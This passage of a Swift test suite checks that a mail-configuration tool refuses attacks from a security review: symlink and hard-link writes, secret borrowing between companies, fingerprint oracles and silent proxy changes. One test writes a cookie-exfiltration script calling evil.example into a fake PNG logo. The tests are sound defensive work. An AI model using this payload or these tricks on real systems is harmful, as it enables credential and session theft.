import Foundation
import GRDB
import JSONSchema
import MailformCore
@testable import MailformStore
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// Pull requests hold nothing worth stealing: the attacks of the third
/// hostile review (issue 20), replayed against the built binary on real
/// files and real SQLite stores. Each test names the attack it replays; each
/// succeeded on 9fc9f43.
@Suite(.serialized)
struct LeastPrivilegeTests {
    typealias OutsideFolder = UntrustedPullRequestTests.OutsideFolder

    static func sha256(_ path: String) throws -> String { Digest.sha256Hex([UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))) }

    static func listing(_ root: URL) -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: root.path)) ?? []).sorted()
    }

    /// An applied copy of the examples, with its key file.
    static func applied() throws -> ExampleWorkspace {
        let ws = try ExampleWorkspace()
        try #require(try ws.run(["apply", "companies", "--auto-approve", "--no-probe"]).exitCode == 0)
        return ws
    }

    // MARK: Attack 1 (critical): writes through a link the pull request planted

    /// From a hostile review: with --trusted-workspace, a pull request that
    /// turns the company folder the workflow names into a link (to a folder
    /// outside the checkout, or to /) must not move the fence there.
    @Test func aLinkedCompanyFolderDoesNotMoveTheFence() throws {
        let ws = try ExampleWorkspace()
        let trusted = ws.path("trusted.yaml")
        try FileManager.default.copyItem(atPath: ws.path("mailform.yaml"), toPath: trusted)
        let outside = FileManager.default.temporaryDirectory.appendingPathComponent("mailform-outside-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: outside, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: outside) }
        try "company: stolen\nsender:\n  email: no-reply@outside.example\nprovider: platform\n".write(toFile: outside + "/x.yaml", atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: ws.path("tenants"), withDestinationPath: outside)
        let result = try ws.run(["validate", "tenants", "--trusted-workspace", trusted])
        #expect(result.exitCode != 0, "\(result.stdout)")
        #expect(result.stdout.contains("path 'tenants' leads outside the current folder") || result.stderr.contains("path 'tenants' leads outside the current folder"),
                "\(result.stdout)\(result.stderr)")
        #expect(!result.stdout.contains("stolen") && !result.stdout.contains("1 file"), "\(result.stdout)")
    }

    @Test func noCommandWritesThroughALinkOrAHardLink() throws {
        let ws = try Self.applied()
        let store = try Self.sha256(ws.storePath), key = try Self.sha256(ws.path("mailform.db.key"))
        // plan.json → the store; the key file; a hard link to the store.
        try FileManager.default.createSymbolicLink(atPath: ws.path("plan.json"), withDestinationPath: ws.storePath)
        try FileManager.default.createSymbolicLink(atPath: ws.path("snap.json"), withDestinationPath: ws.path("mailform.db.key"))
        try #require(link(ws.storePath, ws.path("hard.json")) == 0)
        try FileManager.default.createDirectory(atPath: ws.path("real-out"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: ws.path("out"), withDestinationPath: ws.path("real-out"))
        try FileManager.default.createSymbolicLink(atPath: ws.path("secrets.env"), withDestinationPath: ws.storePath)
        let attempts: [([String], String)] = [
            (["plan", "companies", "--out", "plan.json"], "plan.json: it is a symbolic link"),
            (["plan", "companies", "--out", "hard.json"], "hard.json: it has another hard link"),
            (["plan", "companies", "--change-set", "plan.json"], "plan.json: it is a symbolic link"),
            (["snapshot", "--out", "snap.json"], "snap.json: it is a symbolic link"),
            (["snapshot", "--out", "out/snapshot.json"], "its folder"),
            (["export", "--out", "out"], "is a symbolic link"),
            (["export", "--out", "exported", "--secrets-out", "secrets.env"], "secrets.env: it is a symbolic link"),
        ]
        for (arguments, why) in attempts {
            let result = try ws.run(arguments)
            #expect(result.exitCode == 1, "\(arguments): \(result.stdout)")
            #expect(result.stderr.contains("never writes through a link") || result.stderr.contains("another hard link"), "\(arguments): \(result.stderr)")
            #expect(result.stderr.contains(why), "\(arguments): \(result.stderr)")
        }
        #expect(try Self.sha256(ws.storePath) == store)
        #expect(try Self.sha256(ws.path("mailform.db.key")) == key)
        #expect(Self.listing(ws.root.appendingPathComponent("real-out")).isEmpty)
        #expect(!FileManager.default.fileExists(atPath: ws.path("exported/companies")), "a refused export wrote files")
        // A regular file is replaced, not written through: the store is safe even then.
        try FileManager.default.removeItem(atPath: ws.path("plan.json"))
        try ws.write("plan.json", "old")
        #expect(try ws.run(["plan", "companies", "--out", "plan.json"]).exitCode == 0)
        #expect(try ws.read("plan.json").contains("\"format_version\""))
    }

    // MARK: Attack 2 (high): a saved plan's fingerprints as an oracle

    /// A pull request that changes acme and adds a company whose pool servers
    /// read guess files: the saved plan must not let anyone compare acme's
    /// password with a guess, even a right one.
    @Test func savedPlanFingerprintsCompareNothingAcrossCompaniesOrFields() throws {
        let ws = try Self.applied()
        let acmePassword = try ws.read("secrets/acme-smtp.txt").trimmingCharacters(in: .newlines)
        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Privacy.")
        try ws.write("secrets/guess-right.txt", acmePassword + "\n")
        try ws.write("secrets/guess-right-2.txt", acmePassword + "\n")
        try ws.write("companies/guesser.yaml", """
            company: guesser
            sender:
              email: a@guesser.example.com
            provider: smtp
            smtp:
              host: smtp.guesser.example.com
              port: 587
              username: u
              password: ${file:../secrets/guess-right.txt}
              starttls: required
            smtp_pools:
              p:
                use_for: [dsar]
                servers:
                  - {host: a.guesser.example.com, port: 587, username: u, password: "${file:../secrets/guess-right-2.txt}", starttls: required}

            """)
        let saved = try ws.run(["plan", "companies", "--out", "plan.json"])
        try #require(saved.exitCode == 0, "\(saved.stderr)")
        let plan = SavedPlanFile.object(try ws.read("plan.json"))
        var fingerprints: [String: String] = [:]
        for change in plan?["changes"] as? [[String: Any]] ?? [] {
            guard let desired = change["desired"] as? [String: Any] else { continue }
            func walk(_ value: Any, _ path: String) {
                if let object = value as? [String: Any] {
                    if let fingerprint = object["fingerprint"] as? String { fingerprints["\(change["company"]!) \(path)"] = fingerprint }
                    for (k, v) in object { walk(v, path + "." + k) }
                } else if let array = value as? [Any] {
                    for (i, v) in array.enumerated() { walk(v, path + "[\(i)]") }
                }
            }
            walk(desired, "")
        }
        // acme's password, the right guess and the same file in another field: three values, one secret.
        let acme = fingerprints.filter { $0.key.hasPrefix("acme ") && $0.key.contains("smtp.") && !$0.key.contains("pools") }
        let guesses = fingerprints.filter { $0.key.hasPrefix("guesser ") }
        try #require(!acme.isEmpty && guesses.count >= 2, "\(fingerprints.keys.sorted())")
        for (_, mine) in acme { for (_, guess) in guesses { #expect(mine != guess) } }
        #expect(Set(guesses.values).count == guesses.count, "one value in two fields fingerprints alike")
        #expect(fingerprints.values.allSatisfy { $0.hasPrefix("v2:") })
        // Another plan of the same company, field and value: not comparable either (a salt per plan).
        let again = try ws.run(["plan", "companies", "--out", "plan2.json"])
        try #require(again.exitCode == 0)
        for (_, fingerprint) in acme { #expect(!(try ws.read("plan2.json")).contains(fingerprint)) }
        // The plan still applies exactly, and a changed secret still stops it.
        let apply = try ws.run(["apply", "plan.json", "--no-probe"])
        #expect(apply.exitCode == 0, "\(apply.stdout)\(apply.stderr)")
    }

    // MARK: Attack 3 (high): borrowed secrets

    @Test func defaultSecretNamesAreInjectiveWhateverTheIDs() throws {
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\n")
        func company(_ id: String, _ reference: String) -> String {
            "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: smtp.example.com\n  port: 25\n  username: u\n  password: \(reference)\n"
        }
        let env = ["MAILFORM_ACME__SMTP_PASSWORD": "acme-pw-1", "MAILFORM_ACME_SMTP__PASSWORD": "acme-smtp-pw-2",
                   "MAILFORM_A__X": "a-3", "MAILFORM_A_B__X": "a-b-4", "MAILFORM__RELAY__X": "relay-5", "MAILFORM_ACME_DSAR__X": "dsar-6"]
        // Each owner reads its own; the newcomer `acme-smtp` does not make acme's reference an error.
        try ws.write("companies/acme.yaml", company("acme", "${env:MAILFORM_ACME__SMTP_PASSWORD}"))
        try ws.write("companies/acme-smtp.yaml", company("acme-smtp", "${env:MAILFORM_ACME_SMTP__PASSWORD}"))
        try ws.write("companies/a.yaml", company("a", "${env:MAILFORM_A__X}"))
        try ws.write("companies/a-b.yaml", company("a-b", "${env:MAILFORM_A_B__X}"))
        let own = try ws.run(["validate", "companies"], environment: env)
        #expect(own.exitCode == 0, "\(own.stdout)")
        // Every borrowing, in either direction, is a located fence error.
        let borrowings = [("acme", "${env:MAILFORM_ACME_SMTP__PASSWORD}"), ("acme-smtp", "${env:MAILFORM_ACME__SMTP_PASSWORD}"),
                          ("a", "${env:MAILFORM_A_B__X}"), ("a-b", "${env:MAILFORM_A__X}"), ("a", "${env:MAILFORM__RELAY__X}"),
                          ("acme", "${env:MAILFORM_ACME_DSAR__X}")]
        for (id, reference) in borrowings {
            try ws.write("companies/\(id).yaml", company(id, reference))
            let result = try ws.run(["validate", "companies"], environment: env)
            #expect(result.exitCode == 1, "\(id) read \(reference)")
            #expect(result.stdout.contains("companies/\(id).yaml:9:13: error: secret reference \(reference) reads a variable outside the secrets.env fence"),
                    "\(result.stdout)")
            try ws.write("companies/\(id).yaml", company(id, "${env:MAILFORM_\(SecretOwner.envForm(id))__\(id == "acme" || id == "acme-smtp" ? (id == "acme" ? "SMTP_PASSWORD" : "PASSWORD") : "X")}"))
        }
        // A profile named like another's prefix (acme_dsar) reads nothing by default.
        try ws.write("profiles/acme_dsar.yaml", "smtp:\n  password: ${env:MAILFORM_ACME_DSAR__X}\n  host: smtp.example.com\n  port: 25\n  username: u\n")
        try ws.write("companies/acme.yaml", "company: acme\nextends: acme_dsar\nsender:\n  email: a@acme.example.com\nprovider: smtp\n")
        let profile = try ws.run(["validate", "companies"], environment: env)
        #expect(profile.exitCode == 1)
        #expect(profile.stdout.contains("profiles/acme_dsar.yaml:2:13: error: secret reference ${env:MAILFORM_ACME_DSAR__X} reads a variable outside the secrets.env fence"), "\(profile.stdout)")
        #expect(!(own.stdout + profile.stdout).contains("pw-"))
    }

    @Test func aSecretsDirFileIsReadOnlyByItsOwnCompany() throws {
        let dir = try OutsideFolder()
        try FileManager.default.createDirectory(atPath: dir.path("acme"), withIntermediateDirectories: true)
        try dir.write("acme/smtp", "acme-dir-secret\n")
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  dirs: [\(dir.root.path)]\n")
        func company(_ id: String) -> String {
            "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: smtp.example.com\n  port: 25\n  username: u\n  password: ${file:\(dir.path("acme/smtp"))}\n"
        }
        try ws.write("companies/acme.yaml", company("acme"))
        #expect(try ws.run(["validate", "companies"]).exitCode == 0)
        try ws.write("companies/evil.yaml", company("evil"))
        let result = try ws.run(["validate", "companies"])
        #expect(result.exitCode == 1)
        #expect(result.stdout.contains("companies/evil.yaml:9:13: error: secret file '\(dir.path("acme/smtp"))' is in a secrets.dirs folder, outside this file's own subfolder there [secret-file-fence]"), "\(result.stdout)")
        #expect(result.stdout.contains("evil/…"))
        // dirs_reach: all is the wider fence: allowed, and a warning says so.
        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  dirs: [\(dir.root.path)]\n  dirs_reach: all\n")
        let wide = try ws.run(["validate", "companies"])
        #expect(wide.exitCode == 0)
        #expect(wide.stdout.contains("[secret-fence-wide]"), "\(wide.stdout)")
        #expect(!(result.stdout + wide.stdout).contains("acme-dir-secret"))
    }

    /// With a wide fence, a reference the store records for acme is refused
    /// for any other company, at the reference, naming the owner.
    @Test func aReferenceTheStoreRecordsForACompanyIsRefusedForAnother() throws {
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nsecrets:\n  env: [\"MAILFORM_*\"]\n")
        func company(_ id: String, host: String) -> String {
            "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: \(host)\n  port: 25\n  username: u\n  password: ${env:MAILFORM_SHARED}\n"
        }
        let env = ["MAILFORM_SHARED": "acme-only-secret-Jq3"]
        try ws.write("companies/acme.yaml", company("acme", host: "smtp.acme.example.com"))
        try #require(try ws.run(["apply", "companies", "--auto-approve", "--no-probe"], environment: env).exitCode == 0)
        try ws.write("companies/evil.yaml", company("evil", host: "attacker.example.net"))
        for arguments in [["plan", "companies"], ["apply", "companies", "--auto-approve", "--no-probe"]] {
            let result = try ws.run(arguments, environment: env)
            #expect(result.exitCode == 1)
            #expect(result.stderr.contains("companies/evil.yaml:9:13: error: secret reference ${env:MAILFORM_SHARED} is recorded in the store for company acme; one company may not use another company's secret [secret-owner]"),
                    "\(result.stderr)")
            #expect(!(result.stdout + result.stderr).contains(env["MAILFORM_SHARED"]!))
        }
        #expect(try ws.companyCount() == 1)
        // Against a snapshot too: the pull request's plan refuses it.
        #expect(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        let snapshot = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
        #expect(snapshot.exitCode == 1)
        #expect(snapshot.stderr.contains("is recorded in the store for company acme"), "\(snapshot.stderr)")
    }

    // MARK: Attack 4 (high): unbounded work

    @Test func hugeNamesAndSilentEndpointsAreBounded() throws {
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 20s\n  deadline: 1500ms\n")
        try ws.write("profiles/relay.yaml", "smtp:\n  port: 25\n")
        // A 300 KB profile name: an error about its length, no suggestion computed.
        try ws.write("companies/huge.yaml", "company: huge\nextends: \(String(repeating: "r", count: 300_000))\nsender:\n  email: a@huge.example.com\nprovider: platform\n")
        let huge = try ws.run(["validate", "companies"])
        #expect(huge.exitCode == 1)
        #expect(huge.stdout.contains("companies/huge.yaml:2:10: error: profile name is 300000 bytes long, over the limit of 64"), "\(huge.stdout.prefix(500))")
        #expect(huge.stdout.utf8.count < 2_000)
        #expect(DidYouMean.closest(to: String(repeating: "relay", count: 20), among: ["relay"]) == nil)
        try ws.remove("companies/huge.yaml")
        // Endpoints that never answer, each with a 20 s timeout: the run's deadline ends them all.
        let silent = try RecordingListener(banner: nil)
        for id in ["s1", "s2", "s3"] {
            try ws.write("companies/\(id).yaml", "company: \(id)\nsender:\n  email: a@\(id).example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(silent.port)\n  starttls: off\n")
        }
        let probe = try ws.run(["probe", "companies", "--format", "json"])
        #expect(probe.exitCode == 3, "\(probe.stdout)\(probe.stderr)")
        let report = try JSONSerialization.jsonObject(with: Data(probe.stdout.utf8)) as? [String: Any]
        let results = report?["results"] as? [[String: Any]] ?? []
        #expect(results.count == 3)
        for result in results {
            #expect((result["failure"] as? [String: Any])?["kind"] as? String == "deadline", "\(result)")
        }
        #expect(probe.stdout.contains("not probed: deadline reached"))
        silent.stop()
    }

    // MARK: Attack 5 (medium-high): trusted settings changed silently

    @Test func aPullRequestsTrustedSettingChangesAreShownAtTheTop() throws {
        let ws = try Self.applied()
        let base = try OutsideFolder()
        try base.write("mailform.yaml", try ws.read("mailform.yaml"))
        try ws.write("mailform.yaml", (try ws.read("mailform.yaml")).replacingOccurrences(of: "  concurrency: 64\n", with: "  concurrency: 64\n  proxy: socks5h://attacker.example.net:1080\n"))
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        let args = ["plan", "companies", "--snapshot", "snapshot.json", "--trusted-workspace", base.path("mailform.yaml")]
        let markdown = try ws.run(args + ["--format", "markdown"])
        #expect(markdown.exitCode == 0, "\(markdown.stderr)")
        #expect(markdown.stdout.hasPrefix("### mailform plan\n\n> [!WARNING]\n> **This pull request changes trusted settings** in its `mailform.yaml`: `probe.proxy`"), "\(markdown.stdout)")
        #expect(markdown.stdout.contains("No changes. The store matches the files."))
        let json = try ws.run(args + ["--format", "json"])
        let object = try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any]
        #expect(object?["trusted_settings_changed"] as? [String] == ["probe.proxy"])
        let text = try ws.run(args)
        #expect(text.stdout.hasPrefix("This pull request changes trusted settings of mailform.yaml"), "\(text.stdout)")
        #expect(!text.stdout.contains("attacker.example.net"), "the plan shows which setting, not the pull request's value")
    }

    // MARK: Attack 6 (medium): the comment that did not fit

    @Test func theWholeCommentFitsOneCommentAndSaysWhatItCut() throws {
        let ws = try ExampleWorkspace(copying: [])
        try ws.write("mailform.yaml", "mode: on-premise\nprobe:\n  timeout: 2s\n  deadline: 60s\n")
        // 1,500 companies whose endpoints refuse connections: a long probe section.
        let closed = try RecordingListener()
        let port = closed.port
        closed.stop()
        for i in 0..<1_500 {
            try ws.write("companies/c\(i).yaml", "company: c\(i)\nname: Company number \(i) with a long display name\nsender:\n  email: a@c\(i).example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: \(port)\n  starttls: off\n")
        }
        try #require(try ws.run(["snapshot", "--empty", "--out", "snapshot.json"]).exitCode == 0)
        let result = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--probe", "--format", "markdown"])
        #expect(result.exitCode == 3, "\(result.stderr)")
        #expect(result.stdout.count <= PlanRenderer.commentLimit, "\(result.stdout.count) characters")
        #expect(result.stdout.contains("#### Probe of the changed endpoints"))
        #expect(result.stdout.contains("cut to fit one comment"))
        #expect(result.stdout.contains("Change set: `cs1:"), "the change set is never cut")
    }

    // MARK: Attack 7 (medium): an HTML page named acme.png

    @Test func anHTMLPageNamedLikeAnImageIsRefused() throws {
        let ws = try ExampleWorkspace()
        try ws.write("logos/acme.png", "<svg><foreignObject><html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html></foreignObject></svg>")
        let result = try ws.run(["validate", "companies"])
        #expect(result.exitCode == 1)
        #expect(result.stdout.contains("companies/acme.yaml:7:9: error: logo file is not a usable PNG, JPEG or SVG image: the SVG holds a <foreignobject> element, which no logo may"),
                "\(result.stdout)")
    }

    // MARK: Attack 8 (low-medium): read-only commands, keys and old plans

    /// From the fifth review: the store's own path (a regular file with one
    /// name) as the target of `--out` or `--change-set` was replaced by the
    /// plan. Every write refuses the store, its side files and its key.
    @Test func noCommandWritesOverTheStoreOrItsKey() throws {
        let ws = try Self.applied()
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        let store = try Self.sha256(ws.storePath), key = try Self.sha256(ws.path("mailform.db.key"))
        for arguments in [["plan", "companies", "--out", "mailform.db"], ["plan", "companies", "--out", "mailform.db.key"],
                          ["plan", "companies", "--out", ws.storePath + "-wal"],
                          ["snapshot", "--out", "mailform.db"], ["snapshot", "--out", "./mailform.db.key"],
                          ["plan", "companies", "--snapshot", "snapshot.json", "--change-set", "mailform.db"]] {
            let result = try ws.run(arguments)
            #expect(result.exitCode == 1, "\(arguments): \(result.stdout)")
            #expect(result.stderr.contains("it is the store, one of its files or its key; nothing was written there"), "\(arguments): \(result.stderr)")
        }
        #expect(try Self.sha256(ws.storePath) == store)
        #expect(try Self.sha256(ws.path("mailform.db.key")) == key)
        #expect(!FileManager.default.fileExists(atPath: ws.storePath + "-wal"))
    }

    @Test func readOnlyCommandsNeverChangeTheStoreOrCreateAKey() throws {
        let ws = try Self.applied()
        let before = try Self.sha256(ws.storePath), files = Self.listing(ws.root)
        for arguments in [["plan", "companies"], ["plan", "companies", "--format", "json"], ["snapshot", "--out", "s.json"],
                          ["history"], ["export", "--out", "exported"], ["probe", "companies/latam/hooli.yaml"]] {
            let result = try ws.run(arguments)
            #expect(result.exitCode == 0, "\(arguments): \(result.stderr)")
        }
        #expect(try Self.sha256(ws.storePath) == before)
        #expect(Self.listing(ws.root).filter { !["s.json", "exported"].contains($0) } == files)
        // An older store is refused by plan, unchanged, and migrated by apply.
        let older = try ExampleWorkspace()
        let pool = try DatabasePool(path: older.storePath)
        try Migrations.migrator.migrate(pool, upTo: "v3")
        try pool.close()
        let old = try Self.sha256(older.storePath)
        let refused = try older.run(["plan", "companies"])
        #expect(refused.exitCode == 1)
        #expect(refused.stderr.contains("was made by an older version of mailform; run apply to migrate it"), "\(refused.stderr)")
        #expect(try Self.sha256(older.storePath) == old)
        // plan --out creates no key file: without a key it says how to get one.
        let fresh = try ExampleWorkspace()
        let out = try fresh.run(["plan", "companies", "--out", "plan.json"])
        #expect(out.exitCode == 1)
        #expect(out.stderr.contains("plan --out signs the plan with the store key, and there is none yet"), "\(out.stderr)")
        #expect(!FileManager.default.fileExists(atPath: fresh.path("mailform.db.key")) && !FileManager.default.fileExists(atPath: fresh.path("plan.json")))
    }

    /// A plan saved before the store existed names the store it may create:
    /// applied, it creates exactly that store; to another store (same key) it never applies.
    @Test func aPlanMadeBeforeTheStoreExistedAppliesToNoOtherStore() throws {
        let ws = try ExampleWorkspace().usingStoreKey()
        try #require(try ws.run(["plan", "companies", "--out", "plan.json"]).exitCode == 0)
        let plan = SavedPlanFile.object(try ws.read("plan.json"))
        let named = try #require(plan?["store_id"] as? String)
        #expect(plan?["creates_store"] as? Bool == true)
        // Another store with the same key exists by then: refused.
        let other = try ExampleWorkspace().usingStoreKey()
        try FileManager.default.copyItem(atPath: ws.path("plan.json"), toPath: other.path("plan.json"))
        try #require(try other.run(["apply", "companies/latam", "--auto-approve", "--no-probe"]).exitCode == 0)
        let refused = try other.run(["apply", "plan.json", "--no-probe"])
        #expect(refused.exitCode == 1)
        #expect(refused.stderr.contains("stale plan: the plan was made against another store (it was made before any store existed, and a store exists here now)"), "\(refused.stderr)")
        // Where there is no store, it creates the one it names.
        let applied = try ws.run(["apply", "plan.json", "--no-probe"])
        #expect(applied.exitCode == 0, "\(applied.stderr)")
        let id = try ws.database().read { db in try String.fetchOne(db, sql: "SELECT value FROM store_meta WHERE key = 'store_id'") }
        #expect(id == named)
    }

    /// A checkout that holds the store's or the key's name as a link (to a
    /// file the runner can write, or a key the attacker knows): refused.
    @Test func noStoreOrKeyIsOpenedThroughALinkTheCheckoutHolds() throws {
        let outside = try OutsideFolder()
        let victim = try Self.applied()
        let ws = try ExampleWorkspace()
        try FileManager.default.createSymbolicLink(atPath: ws.storePath, withDestinationPath: victim.storePath)
        let before = try Self.sha256(victim.storePath)
        for arguments in [["plan", "companies"], ["apply", "companies", "--auto-approve", "--no-probe"], ["history"], ["snapshot", "--out", "s.json"]] {
            let result = try ws.run(arguments)
            #expect(result.exitCode == 1, "\(arguments)")
            #expect(result.stderr.contains("mailform opens no store or key through a link a checkout holds"), "\(arguments): \(result.stderr)")
            // Also when the path enters the checkout through a link outside it.
            let entered = try ws.run(arguments + ["--store", "/proc/self/cwd/mailform.db"])
            #expect(entered.exitCode == 1, "\(arguments)")
            #expect(entered.stderr.contains("mailform opens no store or key through a link a checkout holds"), "\(arguments): \(entered.stderr)")
        }
        #expect(try Self.sha256(victim.storePath) == before)
        try FileManager.default.removeItem(atPath: ws.storePath)
        try outside.write("known.key", Data(repeating: 1, count: 32).base64EncodedString())
        try FileManager.default.createSymbolicLink(atPath: ws.path("mailform.db.key"), withDestinationPath: outside.path("known.key"))
        let keyed = try ws.run(["apply", "companies", "--auto-approve", "--no-probe"])
        #expect(keyed.exitCode == 1)
        #expect(keyed.stderr.contains("the store key file mailform.db.key is reached through the symbolic link"), "\(keyed.stderr)")
        #expect(!FileManager.default.fileExists(atPath: ws.storePath))
    }

    // MARK: From the review of the new design

    /// `init`'s `secrets/` is git-ignored: its files are the runner's. A new
    /// company that names acme's file, plainly or through a link the pull
    /// request commits (dangling in its checkout), is refused on both sides.
    @Test func anotherCompanysSecretFileIsRefusedPlainOrThroughALink() throws {
        let ws = try Self.applied()
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        func evil(_ reference: String) -> String {
            "company: evil\nsender:\n  email: a@evil.example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: 587\n  username: evil@evil.example.com\n  password: \(reference)\n  starttls: required\n"
        }
        try FileManager.default.createDirectory(atPath: ws.path("companies/evil"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: ws.path("companies/evil/pw.txt"), withDestinationPath: "../../secrets/acme-smtp.txt")
        for reference in ["${file:../secrets/acme-smtp.txt}", "${file:evil/pw.txt}"] {
            try ws.write("companies/evil.yaml", evil(reference))
            for arguments in [["plan", "companies", "--snapshot", "snapshot.json"], ["apply", "companies", "--auto-approve", "--no-probe"]] {
                let result = try ws.run(arguments)
                #expect(result.exitCode == 1, "\(reference) \(arguments): \(result.stdout)")
                // Named plainly: another company's; through a link the pull request commits: refused as a link.
                let expected = reference.contains("evil/pw.txt")
                    ? "secret file 'evil/pw.txt' is reached through the symbolic link companies/evil/pw.txt inside the workspace"
                    : "companies/evil.yaml:9:13: error: secret reference \(reference) is recorded in the store for company acme; one company may not use another company's secret [secret-owner]"
                #expect(result.stderr.contains(expected), "\(reference) \(arguments): \(result.stderr)")
            }
        }
        #expect(try ws.companyCount() == 8)
        // The same in the pull request's checkout, where the secret file is absent (git-ignored): the link still names it.
        try FileManager.default.moveItem(atPath: ws.path("secrets/acme-smtp.txt"), toPath: ws.path("acme-smtp.moved"))
        let dangling = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
        #expect(dangling.stderr.contains("is reached through the symbolic link companies/evil/pw.txt"), "\(dangling.stderr)")
        try FileManager.default.moveItem(atPath: ws.path("acme-smtp.moved"), toPath: ws.path("secrets/acme-smtp.txt"))
        // Shared on purpose: the trusted workspace lists it.
        try ws.write("mailform.yaml", try ws.read("mailform.yaml") + "secrets:\n  shared: [\"${file:secrets/acme-smtp.txt}\"]\n")
        try ws.write("companies/evil.yaml", evil("${file:../secrets/acme-smtp.txt}"))
        let shared = try ws.run(["plan", "companies"])
        #expect(shared.exitCode == 0, "\(shared.stderr)")
    }

    /// Stage 1 adds a company with a committed secret file; stage 2 turns the
    /// file into a link to acme's. The comment must not say "no changes".
    @Test func aSecretFileRetargetedToAnotherCompanysIsAChangeAndRefused() throws {
        let ws = try Self.applied()
        try FileManager.default.createDirectory(atPath: ws.path("companies/evil"), withIntermediateDirectories: true)
        try ws.write("companies/evil/pw.txt", "evil-own-password\n")
        try ws.write("companies/evil.yaml", "company: evil\nsender:\n  email: a@evil.example.com\nprovider: smtp\nsmtp:\n  host: 127.0.0.1\n  port: 587\n  username: u\n  password: ${file:evil/pw.txt}\n  starttls: required\n")
        try #require(try ws.run(["apply", "companies", "--auto-approve", "--no-probe"]).exitCode == 0)
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        try FileManager.default.removeItem(atPath: ws.path("companies/evil/pw.txt"))
        try FileManager.default.createSymbolicLink(atPath: ws.path("companies/evil/pw.txt"), withDestinationPath: "../../secrets/acme-smtp.txt")
        let pr = try ws.run(["plan", "companies", "--snapshot", "snapshot.json"])
        #expect(pr.exitCode == 1)
        #expect(!pr.stdout.contains("No changes"))
        #expect(pr.stderr.contains("is reached through the symbolic link companies/evil/pw.txt inside the workspace"), "\(pr.stderr)")
        let apply = try ws.run(["apply", "companies", "--auto-approve", "--no-probe"])
        #expect(apply.exitCode == 1 && apply.stderr.contains("[secret-file-fence]"), "\(apply.stderr)")
    }

    /// A pull request that changes its own mailform.yaml (a proxy, a CA) and
    /// a company: reviewed under the base settings, refused after merge,
    /// where the merged settings are in effect.
    @Test func aMergeThatChangesTrustedSettingsPlansItsChangeSetAgain() throws {
        let ws = try Self.applied()
        let base = try OutsideFolder()
        try base.write("mailform.yaml", try ws.read("mailform.yaml"))
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        try ws.write("mailform.yaml", (try ws.read("mailform.yaml")).replacingOccurrences(of: "  concurrency: 64\n", with: "  concurrency: 64\n  proxy: socks5h://127.0.0.1:1089\n"))
        try ws.edit("companies/acme.yaml", "name: ACME Privacy", "name: ACME Hardened")
        let pr = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--trusted-workspace", base.path("mailform.yaml"), "--change-set", "cs.txt"])
        try #require(pr.exitCode == 0, "\(pr.stderr)")
        #expect(pr.stdout.contains("This pull request changes trusted settings"))
        let digest = try ws.read("cs.txt").trimmingCharacters(in: .whitespacesAndNewlines)
        let before = try ws.storeDump()
        let apply = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", digest])
        #expect(apply.exitCode == 1)
        #expect(apply.stderr.contains("the change set to apply is not the reviewed one") && apply.stderr.contains("workspace settings"), "\(apply.stderr)")
        #expect(try ws.storeDump() == before)
        // A merge of settings alone writes nothing and succeeds.
        try ws.edit("companies/acme.yaml", "name: ACME Hardened", "name: ACME Privacy")
        let settingsOnly = try ws.run(["plan", "companies", "--snapshot", "snapshot.json", "--trusted-workspace", base.path("mailform.yaml"), "--change-set", "cs.txt"])
        try #require(settingsOnly.exitCode == 0)
        let empty = try ws.run(["apply", "companies", "--auto-approve", "--no-probe", "--reviewed", try ws.read("cs.txt").trimmingCharacters(in: .whitespacesAndNewlines)])
        #expect(empty.exitCode == 0, "\(empty.stderr)")
        #expect(empty.stderr.contains("nothing to apply: the store already matches the files"))
    }

    /// The third review: links whose targets use `..` after a link
    /// (`.l/../secrets/acme-smtp.txt`), so the path mailform reads differs
    /// from the path written; a profile naming a company's file; profile
    /// names that differ only in case. All refused.
    @Test func linksProfilesAndCaseCannotBorrowASecret() throws {
        let ws = try Self.applied()
        try #require(try ws.run(["snapshot", "--out", "snapshot.json"]).exitCode == 0)
        try FileManager.default.createDirectory(atPath: ws.path("companies/evil/secrets"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: ws.path("companies/evil/.l"), withDestinationPath: "../../logos")
        try FileManager.default.createSymbolicLink(atPath: ws.path("companies/evil/pw.txt"), withDestinationPath: ".l/../secrets/acme-smtp.txt")
        try ws.write("companies/evil/password.txt", "evil-own\n")
